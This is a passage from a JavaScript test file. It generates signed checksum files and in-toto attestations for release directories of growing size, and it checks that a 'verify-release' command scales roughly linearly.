      const dir = join(root, `scaling-${count}`);
      await mkdir(dir);
      const names = Array.from({ length: count }, (_, index) => `file-${index}.bin`);
      for (const name of names) await writeFile(join(dir, name), `${name}\n`);
      await writeFile(join(dir, 'SHA256SUMS'), names.map((name) => `${sha256(`${name}\n`)}  ${name}\n`).join(''));
      await signFile(join(dir, 'SHA256SUMS'));
      const subjects = names.map((name) => ({ name, digest: { sha256: sha256(`${name}\n`) } }));
      const signed = [await signAttestation(stack, { subjects, claims: TAG_CLAIMS }), await signAttestation(stack, { subjects, claims: TAG_CLAIMS, predicateType: SPDX, predicate: { files: names } })];
      await writeFile(join(dir, 'attestations.intoto.jsonl'), signed.map((one) => JSON.stringify(one.bundle)).join('\n') + '\n');
      releases.set(count, dir);
    }
    await assertScaling(
      'verify-release',
      (count) => releases.get(count) ?? '',
      async (dir) => {
        const run = await cli(['verify-release', dir, '--policy', policy], root);
        assert.equal(run.code, EXIT.OK, run.stderr);
      },
      // Linear work costs 10 times at most (here less: the signed checksums file and the trusted root cost the same at each size);
      // each bundle verified once per subject cost 23 times.
      { size: 100, maxRatio: 12 },
    );
  });
});
